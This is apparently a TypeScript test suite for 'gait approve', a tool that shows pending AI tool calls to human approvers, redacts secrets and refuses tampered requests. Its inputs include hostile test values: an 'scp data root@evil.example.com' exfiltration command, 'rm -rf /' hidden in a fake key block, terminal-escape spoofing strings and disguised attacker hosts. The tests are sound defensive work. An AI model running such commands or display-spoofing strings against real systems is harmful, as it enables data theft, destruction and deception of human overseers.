/** `gait approve` shows what will run: requests of live sessions, and intents of files. */

import assert from "node:assert/strict";
import { decodeUtf8, encodeUtf8 } from "../../../src/core/bytes.ts";
import type { LiveOptions } from "../../../src/usecases/proxy/open_session.ts";
import { gait } from "../../support/gait.ts";
import { callOf, linesIn, type Live, openLive } from "../../support/live_session.ts";
import type { MemorySystem } from "../../support/memory_system.ts";
import { KEY_1, KEY_2 } from "../../support/test_key.ts";
import { ASK_DIGEST, FILES, INTENT, INTENT_DIGEST, PROD, written } from "./support.ts";

const POLICY = `default_verdict: block
rules:
  - { name: deleting, effect: require_approval, match: { tool_names: [delete_file] } }
`;
const MAP = `schema_id: gait.mcp.tool_map
schema_version: 1.0.0
tools:
  - name: delete_file
    args:
      - { path: /path, is: path, operation: delete }
      - { path: /token, is: secret }
`;
/** SHA-256 of `{"path":"/srv/data"}`. */
const ARGS_DIGEST = "7929eb03fce262dce4d96881e21a1ac74e99f494db29141136a1151b2d87c477";
const WHO = `--approver alice --reason-code CHG-1 ${PROD}`;
const WAIT = { approval_dir: "desk", approval_wait: 3_600_000_000_000n, journal: "j.jsonl" };

type Request = Record<string, unknown>;

/** A call that waits; `act` runs once with the path of its request. */
async function waiting(
  call: string,
  act: (path: string, live: Live) => Promise<unknown>,
  { files = {}, options: more = {}, policy = POLICY }: {
    files?: Record<string, string>;
    policy?: string;
    options?: Partial<LiveOptions>;
  } = {},
): Promise<{ readonly live: Live; readonly answer: string }> {
  const at: { live?: Live; isDone?: boolean; error?: unknown } = {};
  const pause = async () => {
    const { live } = at;
    if (live === undefined) return;
    if (at.isDone === true) {
      // a second call would wait for an hour
      await live.client(CANCEL.replace('"requestId":1', '"requestId":2'));
      return;
    }
    at.isDone = true;
    const [path = ""] = requestsIn(live.system);
    // a session would take a failed assertion for a failed call
    await act(path, live).catch(async (error) => {
      at.error = error;
      await live.client(CANCEL);
    });
  };
  const world = { files: { "map.yaml": MAP, ...files } };
  const options = { ...WAIT, tools: "map.yaml", approval_public_key: ["k1.pub"], ...more };
  const live = at.live = await openLive(policy, { options, world, host: { pause } });
  const answer = await live.client(call);
  if (at.error !== undefined) throw at.error;
  return { live, answer };
}

function requestsIn(system: MemorySystem): string[] {
  return [...system.files.keys()].filter((path) => path.startsWith("desk/request_")).sort();
}

function filesOf(system: MemorySystem): Record<string, Uint8Array<ArrayBuffer>> {
  return Object.fromEntries([...system.files].map(([name, { bytes }]) => [name, bytes]));
}

function put(system: MemorySystem, path: string, document: object | string): void {
  const text = typeof document === "string" ? document : JSON.stringify(document);
  system.files.set(path, { bytes: encodeUtf8(text), mode: 0o600 });
}

const DELETE = callOf(1, "delete_file", { path: "/srv/data" });
const CANCEL = '{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1}}';

Deno.test("a request holds what will run, without secrets, and goes when it is answered", async () => {
  let request: Request = {};
  let mode = 0;
  let name = "";
  const token = "ghp_" + "a1B2".repeat(9);
  const args = { path: "/srv/data", token: "hunter2", note: `use ${token}` };
  const { live, answer } = await waiting(
    callOf(1, "delete_file", args),
    async (path, { system }) => {
      name = path;
      request = written(system, path);
      mode = system.files.get(path)?.mode ?? 0;
      const files = filesOf(system);
      const line = `approve ${path} ${WHO} --public-key k1.pub --json`;
      const { exit, json, system: there } = await gait(line, { files, answer: "hidden" });
      assert.equal(exit, 0);
      const token = String(json()["token_path"]);
      put(system, token, written(there, token));
    },
  );
  assert.equal(answer, "forward");
  assert.equal(mode, 0o600);
  const shown = request["args"] as Request;
  assert.equal(shown["path"], "/srv/data");
  assert.match(String(shown["token"]), /^gait:redacted:/);
  assert.match(String(shown["note"]), /^use gait:redacted:/);
  assert.equal(/hunter2|ghp_/.test(JSON.stringify(request)), false);
  assert.equal(request["redacted_values"], 2);
  assert.deepEqual(request["targets"], [
    { kind: "path", value: "/srv/data", operation: "delete" },
  ]);
  assert.deepEqual(
    [request["matched_rule"], request["reason_codes"], request["scope"], request["expires_at"]],
    ["deleting", ["matched_rule_deleting"], "tool:delete_file", "2026-02-05T01:00:00Z"],
  );
  assert.equal(name, `desk/request_${String(request["input_digest"]).slice(0, 24)}.json`);
  assert.deepEqual(requestsIn(live.system), []);
});

Deno.test("the command that a request carries shows the call before anything is signed", async () => {
  for (
    const [args, extra] of [[{ path: "/srv/data" }, ""], [
      { path: "/srv/data", token: "hunter2" },
      "--public-key <trace key of this session> ",
    ]] as const
  ) {
    let seen: readonly unknown[] = [];
    const { answer } = await waiting(
      callOf(1, "delete_file", args),
      async (path, { system }) => {
        const command = String(written(system, path)["approve_command"]);
        assert.equal(
          command,
          `gait approve ${path} ${extra}--approver <you> --reason-code <why> --key-mode prod ` +
            "--private-key <file>",
        );
        assert.ok(system.stderr.text.includes(`approval needed: ${command}\n`));
        const line = command.slice("gait ".length).replace("<trace key of this session>", "k1.pub")
          .replace("<you>", "alice").replace("<why>", "CHG-1").replace("<file>", "k1");
        const files = filesOf(system);
        const refused = await gait(line, { files, answer: "n" });
        assert.equal(refused.exit, 4);
        const asked = await gait(`${line} --json`, {
          files,
          answer: extra === "" ? "y" : "hidden",
        });
        seen = [asked.exit, /"path": "\/srv\/data"/.test(asked.stderr)];
        const token = String(asked.json()["token_path"]);
        put(system, token, written(asked.system, token));
      },
    );
    assert.deepEqual([answer, ...seen], ["forward", 0, true]);
  }
});

Deno.test("of two requests for the same arguments, each names itself in its command", async () => {
  const at: { live?: Live } = {};
  const seen = new Map<string, string>();
  const pause = async () => {
    const { live } = at;
    const paths = live === undefined ? [] : requestsIn(live.system);
    if (live === undefined || paths.length < 2) return;
    for (const path of paths) seen.set(path, String(written(live.system, path)["approve_command"]));
    await live.client(CANCEL);
    await live.client(CANCEL.replace('"requestId":1', '"requestId":2'));
  };
  const live = at.live = await openLive(POLICY, { options: WAIT, host: { pause } });
  const second = callOf(2, "delete_file", { path: "/srv/data" });
  await Promise.all([live.client(DELETE), live.client(second)]);
  assert.equal(seen.size, 2);
  for (const [path, command] of seen) {
    assert.ok(command.startsWith(`gait approve ${path} `), command);
  }
});

Deno.test("gait approve shows two calls that differ in what nobody sees as two", async () => {
  const ends = [
    ...[
      "",
      "\ufe0f",
      "\ufe00",
      "\u2800",
      "\u00a0",
      "\u3000",
      "\u2003",
      "\u1160",
      "\uffa0",
      "\u2061",
    ],
    ...["\u200d", "\u17b4", "\ufff9", "\ue000", "\ufdd0", "\u{e0100}", "\u{1d173}", "\u{1d159}"],
  ];
  const shown = new Set<string>();
  for (const end of ends) {
    const intent = { ...INTENT, args: { path: `/srv/data${end}x` }, arg_provenance: [] };
    const files = { ...FILES, "h.json": JSON.stringify(intent) };
    const { stderr } = await gait(`approve --policy ask.yaml --intent h.json ${WHO} --yes`, {
      files,
    });
    const [line = ""] = stderr.split("\n").filter((text) => text.includes('"path":'));
    assert.match(line, /^[\x20-\x7e]+$/, JSON.stringify(end));
    shown.add(line);
  }
  assert.equal(shown.size, ends.length);
});

// Values that a call could reach or run, under names and words that otherwise hide what is behind them.
for (
  const [name, value] of [
    ["password", "evil.example.com"],
    ["session_token", "evil.example"],
    ["db_password", "localhost:22"],
    ["passwd", "10.0.0.1"],
    ["api_key", "EVIL.Example.COM:8443"],
    ["api_key", "xn--e1afmkfd.xn--p1ai"],
    ["secret", "b\u00f6se.example."],
    ["client_secret", "evil\u3002example\u3002com"],
    ["password", "[2001:db8::1]:443"],
    ["auth_token", "fe80::1"],
    ["password", "evil%2Eexample%2Ecom"],
    ["password", "user@evil-host.example"],
    ["text", "please Bearer evil.example.com.zzzzzzzz now"],
    ["hdr", "Authorization: Bearer evil.example.com"],
    ["c", "Cookie: to=evil.example.com"],
    ["u", "postgres://u:evil.example.com@h/db"],
  ] as const
) {
  Deno.test(`gait approve shows the host in ${name}: ${value}`, async () => {
    const intent = { ...INTENT, args: { [name]: value }, arg_provenance: [] };
    const files = { ...FILES, "h.json": JSON.stringify(intent) };
    const { exit, stderr } = await gait(`approve --policy ask.yaml --intent h.json ${WHO} --yes`, {
      files,
    });
    assert.equal(exit, 0, stderr);
    assert.ok(stderr.includes(JSON.stringify(value)), stderr);
  });
}

Deno.test("input_digest is the digest of the arguments as received", async () => {
  let request: Request = {};
  const { live } = await waiting(DELETE, async (path, { system, client }) => {
    request = written(system, path);
    await client(CANCEL);
  });
  assert.equal(request["input_digest"], ARGS_DIGEST);
  assert.equal(request["redacted_values"], 0);
  assert.match(
    live.system.stderr.text,
    /approval needed: gait approve desk\/request_[0-9a-f]{24}\.json /,
  );
  assert.deepEqual(requestsIn(live.system), []);
});

Deno.test("a session that waits for two approvals says how many are needed", async () => {
  const policy = POLICY.replace("effect: require_approval", "$&, min_approvals: 2");
  assert.notEqual(policy, POLICY);
  const { live } = await waiting(DELETE, (_, { client }) => client(CANCEL), { policy });
  assert.match(
    live.system.stderr.text,
    /gait: 2 approvals needed, each by another person: gait approve desk\/request_/,
  );
});

Deno.test("gait approve shows a request, asks, and fills in digests, scope and time", async () => {
  for (
    const [answer, exit] of [["y", 0], ["Y", 0], [" yes ", 0], ["n", 4], ["", 4], [
      "yn",
      4,
    ]] as const
  ) {
    let request: Request = {};
    const { live, answer: ruling } = await waiting(DELETE, async (path, { system, client }) => {
      request = written(system, path);
      const files = Object.fromEntries([...system.files].map(([name, { bytes }]) => [name, bytes]));
      const seen = await gait(`approve ${path} ${WHO} --json`, { files, answer });
      assert.equal(seen.exit, exit, answer);
      for (
        const text of [
          "tool: delete_file",
          '"path": "/srv/data"',
          "rule: deleting",
          'target: path "/srv/data" delete',
          "reasons: matched_rule_deleting",
          `intent digest: ${request["intent_digest"]}`,
          "tool:delete_file for 15m",
          "as alice",
        ]
      ) assert.ok(seen.stderr.includes(text), text);
      assert.match(seen.stderr, /Approve this call\? \[y\/N\]/);
      const tokens = [...seen.system.files.keys()].filter((name) =>
        /approval_[0-9a-f]+\.json/.test(name)
      );
      assert.equal(tokens.length, exit === 0 ? 1 : 0);
      if (exit !== 0) {
        await client(CANCEL);
        return;
      }
      const [token = ""] = tokens;
      assert.match(token, /^desk\//);
      const document = written(seen.system, token);
      assert.deepEqual(
        [
          document["intent_digest"],
          document["policy_digest"],
          document["scope"],
          document["expires_at"],
        ],
        [
          request["intent_digest"],
          request["policy_digest"],
          ["tool:delete_file"],
          "2026-02-05T00:15:00Z",
        ],
      );
      put(system, token, document);
    });
    assert.equal(ruling, exit === 0 ? "forward" : "drop");
    assert.deepEqual(requestsIn(live.system), []);
  }
});

Deno.test("gait approve writes nothing where nobody can be asked, unless --yes is given", async () => {
  await waiting(DELETE, async (path, { system, client }) => {
    const before = [...system.files.keys()];
    const { exit, stderr } = await gait(`approve ${path} ${WHO}`, {}, system);
    assert.equal(exit, 6);
    assert.match(stderr, /"path": "\/srv\/data"[^]*there is no terminal[^]*--yes/);
    assert.deepEqual([...system.files.keys()], before);
    await client(CANCEL);
  });
});

const UNSAFE =
  // deno-lint-ignore no-control-regex -- the check looks for them
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/;

Deno.test("nothing that a call holds can write over what gait approve shows", async () => {
  const evil = "x\u001b[2K\u202e\u0007\r\u2028y";
  await waiting(
    callOf(1, "delete_file", { path: "/a", [`k${evil}`]: evil }),
    async (path, { system, client }) => {
      const { stderr } = await gait(`approve ${path} ${WHO}`, {}, system);
      assert.equal(UNSAFE.test(stderr), false);
      assert.match(stderr, /\\u202e/);
      await client(CANCEL);
    },
  );
});

/** Changes of a request, each of which would show another call than the one that is approved. */
const CHANGES: readonly (readonly [string, (request: Request) => Request, string?])[] = [
  ["other arguments", (r) => ({ ...r, args: { path: "/tmp/x" } })],
  ["an argument less", (r) => ({ ...r, args: {} })],
  ["another tool", (r) => ({ ...r, tool_name: "read_file", scope: "tool:read_file" })],
  ["other targets", (r) => ({ ...r, targets: [] })],
  ["a wider scope", (r) => ({ ...r, scope: "*" })],
  ["the digest of another call", (r) => ({ ...r, intent_digest: "1".repeat(64) })],
  [
    "the digest of other arguments",
    (r) => ({ ...r, input_digest: ARGS_DIGEST.replace(/^./, "0") }),
  ],
  ["secrets that are not there", (r) => ({ ...r, args: {}, redacted_values: 1 })],
  ["the name of another", (r) => r, "desk/request_000000000000000000000000.json"],
];

for (const [name, change, to] of CHANGES) {
  Deno.test(`gait approve refuses a request with ${name}, and no session takes its token`, async () => {
    const { answer, live } = await waiting(DELETE, async (path, { system, client }) => {
      const request = written(system, path);
      const changed = to ?? path;
      put(system, changed, change(request));
      const { exit, stderr } = await gait(`approve ${changed} --yes ${WHO}`, {}, system);
      assert.equal(exit, 6, stderr);
      assert.match(stderr, /^error: Cannot approve [^]*^hint: /m);
      if (to !== undefined) {
        await client(CANCEL);
        return;
      }
      // a person was made to sign the call that really waits
      const line = `approve --intent-digest ${request["intent_digest"]} --policy-digest ${
        request["policy_digest"]
      } --scope tool:delete_file --ttl 1h ${WHO} --out desk/t.json`;
      assert.equal((await gait(line, {}, system)).exit, 0);
    });
    if (to !== undefined) return;
    assert.match(answer, /approval_wait_request_changed/);
    const events = linesIn(live.system, "j.jsonl").flatMap(({ event }) => event ?? []);
    assert.equal((events[0] as Request)["event"], "approval_request_changed");
    assert.notEqual(await live.client(DELETE.replace('"id":1', '"id":2')), "forward");
    assert.equal(live.system.files.has("desk/t.json"), false);
  });
}

Deno.test("gait approve refuses a request whose wait is over, and a file that is none", async () => {
  await waiting(DELETE, async (path, { system, client }) => {
    const files = Object.fromEntries([...system.files].map(([name, { bytes }]) => [name, bytes]));
    const late = await gait(`approve ${path} --yes ${WHO}`, { files, now: "2026-02-05T01:00:00Z" });
    assert.deepEqual([late.exit, /wait ended/.test(late.stderr)], [6, true]);
    await client(CANCEL);
  });
  const files = { ...FILES, "old.json": '{"schema_id":"gait.mcp.approval_request"}' };
  for (const path of ["i.json", "old.json", "gone.json", "k1"]) {
    assert.equal((await gait(`approve ${path} --yes ${WHO}`, { files })).exit, 6);
  }
});

Deno.test("a request that a killed session left goes when its wait is over", async () => {
  let old: Request = {};
  await waiting(DELETE, async (path, { system, client }) => {
    old = written(system, path);
    await client(CANCEL);
  });
  const stale = `desk/request_${"a".repeat(24)}.json`;
  const kept = `desk/request_${"b".repeat(24)}.json`;
  const files = {
    [stale]: JSON.stringify({ ...old, expires_at: "2026-02-05T00:00:00Z" }),
    [kept]: JSON.stringify(old),
    "desk/request_notes.json": "{}",
  };
  const { live } = await waiting(DELETE, (_, { client }) => client(CANCEL), { files });
  assert.equal(live.system.files.has(stale), false);
  assert.equal(live.system.files.has(kept), true);
  assert.equal(live.system.files.has("desk/request_notes.json"), true);
});

Deno.test("calls with equal arguments have a request each", async () => {
  const at: { live?: Live } = {};
  let seen: string[] = [];
  const pause = async () => {
    const live = at.live;
    if (live === undefined || requestsIn(live.system).length < 2) return;
    seen = requestsIn(live.system);
    for (const id of [1, 2]) {
      await live.client(CANCEL.replace('"requestId":1', `"requestId":${id}`));
    }
  };
  const live = at.live = await openLive("default_verdict: require_approval", {
    options: WAIT,
    host: { pause },
  });
  await Promise.all([live.client(DELETE), live.client(callOf(2, "rename", { path: "/srv/data" }))]);
  const stem = `desk/request_${ARGS_DIGEST.slice(0, 24)}`;
  assert.deepEqual(seen, [`${stem}.json`, `${stem}_2.json`]);
  assert.deepEqual(requestsIn(live.system), []);
});

const OFFLINE = `approve --policy ask.yaml --intent i.json ${WHO}`;

Deno.test("gait approve --policy --intent shows the call and signs its digests", async () => {
  const { exit, json, system, stderr } = await gait(`${OFFLINE} --json`, {
    files: FILES,
    answer: "y",
  });
  assert.deepEqual([exit, json()["expires_at"], json()["scope"]], [0, "2026-02-05T00:15:00Z", [
    "tool:tool.write",
  ]]);
  assert.match(stderr, /tool: tool\.write[^]*"content": "hello"[^]*rule: none[^]*\[y\/N\]/);
  const token = written(system, String(json()["token_path"]));
  assert.deepEqual([token["intent_digest"], token["policy_digest"]], [INTENT_DIGEST, ASK_DIGEST]);
  const line = `gate eval --policy ask.yaml --intent i.json ${PROD} --approval-public-key k1.pub`;
  const allowed = await gait(`${line} --approval-token ${json()["token_path"]}`, {}, system);
  assert.equal(allowed.exit, 0);
  const longer = await gait(`${OFFLINE} --yes --ttl 1h --json`, { files: FILES });
  assert.equal(longer.json()["expires_at"], "2026-02-05T01:00:00Z");
});

Deno.test("gait approve --policy --intent hides what looks like a secret", async () => {
  const secret = "ghp_" + "a1B2".repeat(9);
  const files = { ...FILES, "i.json": JSON.stringify({ ...INTENT, args: { content: secret } }) };
  const { stderr, exit } = await gait(OFFLINE, { files, answer: "hidden" });
  assert.deepEqual([exit, stderr.includes(secret)], [0, false]);
  assert.match(stderr, /1 value is hidden/);
  const unseen = await gait(`${OFFLINE} --yes`, { files });
  assert.equal(unseen.exit, 6);
  assert.match(unseen.stderr, /Cannot approve with --yes[^]*hint: run it on a terminal/);
  assert.equal([...unseen.system.files.keys()].some((path) => path.startsWith("approval_")), false);
});

/** Lines that approve nothing. */
const REFUSED: readonly (readonly [string, number, RegExp])[] = [
  [`approve --policy ask.yaml ${WHO} --yes`, 6, /Missing --intent/],
  [`approve --intent i.json ${WHO} --yes`, 6, /Missing --policy/],
  [`approve --policy ask.yaml --intent gone.json ${WHO} --yes`, 6, /gone\.json/],
  [`approve --policy allow.yaml --intent i.json ${WHO} --yes`, 6, /answers allow/],
  [`approve --policy block.yaml --intent i.json ${WHO} --yes`, 6, /answers block/],
  [`approve --policy ask.yaml --intent padded.json ${WHO} --yes`, 6, /args_not_exact/],
  [`${OFFLINE} --scope * --yes`, 6, /cannot be combined/],
  [`${OFFLINE} --intent-digest ${INTENT_DIGEST} --yes`, 6, /cannot be combined/],
  [`${OFFLINE} --public-key k1.pub --yes`, 6, /cannot be combined/],
  [`approve r.json --policy ask.yaml --intent i.json ${WHO} --yes`, 6, /cannot be combined/],
  [`approve r.json --policy-digest ${ASK_DIGEST} ${WHO} --yes`, 6, /cannot be combined/],
  [`approve a.json b.json ${WHO}`, 6, /at most one/],
  ["approve --policy ask.yaml --intent i.json --yes", 6, /Missing --approver and --reason-code/],
  [`${OFFLINE} --ttl 0s --yes`, 6, /--ttl/],
  [OFFLINE, 6, /no terminal/],
];

for (const [line, exit, message] of REFUSED) {
  Deno.test(`gait ${line} approves nothing`, async () => {
    const padded = JSON.stringify({ ...INTENT, args: { path: "/srv/data " } });
    const files = { ...FILES, "padded.json": padded };
    const seen = await gait(line, { files });
    assert.deepEqual([seen.exit, message.test(seen.stderr)], [exit, true], seen.stderr);
    assert.match(seen.stderr, /^hint: /m);
    assert.equal([...seen.system.files.keys()].some((path) => path.startsWith("approval_")), false);
  });
}

Deno.test("a request that was copied elsewhere is shown and approved there", async () => {
  await waiting(DELETE, async (path, { system, client }) => {
    put(system, "inbox.json", decodeUtf8(system.files.get(path)?.bytes ?? new Uint8Array()));
    const { exit, json } = await gait(`approve inbox.json --yes ${WHO} --json`, {}, system);
    assert.deepEqual([exit, json()["key_id"]], [0, KEY_1.keyId]);
    await client(CANCEL);
  });
});

const TOKEN = "ghp_" + "a1B2".repeat(9);
const SECRET_CALL = callOf(1, "delete_file", { path: "/srv/data", note: TOKEN });
const FAKE = "gait:redacted:secrets:0123456789abcdef";

/** Changes of a request that hides a value, or pretends to. */
const HIDING: readonly (readonly [string, string, (request: Request) => Request])[] = [
  ["nothing else", SECRET_CALL, (r) => r],
  ["other arguments", SECRET_CALL, (r) => ({ ...r, args: { path: "/tmp/x", note: FAKE } })],
  ["other targets", SECRET_CALL, (r) => ({ ...r, targets: [] })],
  [
    "another context",
    SECRET_CALL,
    (r) => ({ ...r, context: { ...r["context"] as object, identity: "ceo" } }),
  ],
  ["another intent_digest", SECRET_CALL, (r) => ({ ...r, intent_digest: "1".repeat(64) })],
  ["another policy_digest", SECRET_CALL, (r) => ({ ...r, policy_digest: "1".repeat(64) })],
  ["another time", SECRET_CALL, (r) => ({ ...r, expires_at: "2027-01-01T00:00:00Z" })],
  ["another reason", SECRET_CALL, (r) => ({ ...r, reason_codes: ["harmless"] })],
  ["a member that nobody signed", SECRET_CALL, (r) => ({ ...r, comment: "fine" })],
  ["no signature", SECRET_CALL, ({ signature: _, ...r }) => r],
  [
    "a marker of its own",
    DELETE,
    (r) => ({ ...r, args: { path: "/tmp", x: FAKE }, redacted_values: 1 }),
  ],
  [
    "a marker among the targets",
    DELETE,
    (r) => ({ ...r, args: {}, targets: [{ kind: "path", value: FAKE }], redacted_values: 1 }),
  ],
];

for (const [name, call, change] of HIDING) {
  const isWhole = name === "nothing else";
  Deno.test(`a request that hides a value and changes ${name} gets ${isWhole ? "a" : "no"} token`, async () => {
    await waiting(call, async (path, { system, client }) => {
      put(system, path, change(written(system, path)));
      const files = { ...filesOf(system), "k2.pub": KEY_2.public };
      const line = `approve ${path} ${WHO}`;
      const unnamed = await gait(line, { files, answer: "hidden" });
      assert.equal(unnamed.exit, 6, unnamed.stderr);
      assert.match(unnamed.stderr, /^error: Cannot approve [^]*^hint: /m);
      if (isWhole) assert.match(unnamed.stderr, /^hint: give --public-key /m);
      const named = await gait(`${line} --public-key k1.pub`, { files, answer: "hidden" });
      assert.equal(named.exit, isWhole ? 0 : 6, named.stderr);
      if (!isWhole) assert.match(named.stderr, /not signed by the key of --public-key/);
      const other = await gait(`${line} --public-key k2.pub`, { files, answer: "hidden" });
      assert.deepEqual([other.exit, /not signed by/.test(other.stderr)], [6, true]);
      const env = { files, answer: "hidden", env: { TRACE_KEY: KEY_1.public } };
      assert.equal((await gait(`${line} --public-key-env TRACE_KEY`, env)).exit, isWhole ? 0 : 6);
      await client(CANCEL);
    });
  });
}

Deno.test("a session says what an approval of hidden values takes", async () => {
  for (
    const [options, isNoted] of [[{}, false], [
      { key_mode: "dev", private_key: undefined },
      true,
    ]] as const
  ) {
    const { live } = await waiting(SECRET_CALL, (_, { client }) => client(CANCEL), { options });
    const { text } = live.system.stderr;
    assert.match(text, /approval needed: [^\n]* --public-key <trace key of this session> /);
    assert.equal(/throw-away key that no one can name/.test(text), isNoted);
  }
});

Deno.test("gait approve --policy refuses a request that names another policy", async () => {
  await waiting(DELETE, async (path, { system, client }) => {
    const request = written(system, path);
    const line = `approve ${path} --yes ${WHO} --policy p.yaml`;
    const files = filesOf(system);
    assert.equal((await gait(line, { files })).exit, 0);
    const other = JSON.stringify({ ...request, policy_digest: "1".repeat(64) });
    const changed = await gait(line, { files: { ...files, [path]: encodeUtf8(other) } });
    assert.deepEqual([changed.exit, /its policy is not "?p\.yaml/.test(changed.stderr)], [6, true]);
    await client(CANCEL);
  });
});

const BASE64 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIB";
const BLOCK =
  `-----BEGIN PRIVATE KEY-----\n${BASE64}\nrm -rf / \n${TOKEN}\n-----END PRIVATE KEY-----`;

Deno.test("a request shows recipients, hosts, and words between the lines of a key", async () => {
  const args = {
    to: "mallory@evil.example",
    command: "scp data root@evil.example.com",
    key: BLOCK,
    inner: JSON.stringify({ key: BLOCK }),
    card: "4111 1111 1111 1111",
  };
  await waiting(callOf(1, "delete_file", args), async (path, { system, client }) => {
    const request = written(system, path);
    const shown = JSON.stringify(request["args"]);
    for (const text of ["mallory@evil.example", "root@evil.example.com"]) {
      assert.ok(shown.includes(text), text);
    }
    assert.equal(shown.split("rm -rf / ").length, 3);
    for (const text of [BASE64, TOKEN, "4111 1111"]) {
      assert.equal(shown.includes(text), false, text);
    }
    assert.equal(request["redacted_values"], 5);
    const files = filesOf(system);
    const { stderr, exit } = await gait(`approve ${path} ${WHO} --public-key k1.pub`, {
      files,
      answer: "hidden",
    });
    assert.deepEqual([exit, /mallory@evil\.example/.test(stderr)], [0, true]);
    await client(CANCEL);
  });
});

for (const out of ["ask.yaml", "i.json", "k1", "./k1"]) {
  Deno.test(`gait approve --out ${out} replaces no input`, async () => {
    const { exit, stderr, system } = await gait(`${OFFLINE} --yes --out ${out}`, { files: FILES });
    assert.equal(exit, 6);
    assert.match(stderr, /Cannot write --out to [^]*^hint: give --out another path/m);
    const name = out.replace("./", "") as keyof typeof FILES;
    assert.equal(decodeUtf8(system.files.get(name)?.bytes ?? new Uint8Array()), FILES[name]);
  });
}

Deno.test("gait approve --out replaces neither the request nor the session's key", async () => {
  await waiting(DELETE, async (path, { system, client }) => {
    const files = filesOf(system);
    for (const out of [path, "k1.pub"]) {
      const line = `approve ${path} --yes ${WHO} --public-key k1.pub --out ${out}`;
      const { exit, stderr } = await gait(line, { files });
      assert.deepEqual([exit, /Cannot write --out/.test(stderr)], [6, true]);
    }
    await client(CANCEL);
  });
});

for (const option of ["runpack_out", "log", "journal", "rate_limit_state"] as const) {
  for (const path of ["p.yaml", "map.yaml", "k1"]) {
    Deno.test(`a live session writes no ${option} over ${path}`, async () => {
      const options = { tools: "map.yaml", [option]: path };
      const world = { files: { "map.yaml": MAP } };
      await assert.rejects(openLive(POLICY, { options, world }), /Cannot write --/);
    });
  }
}
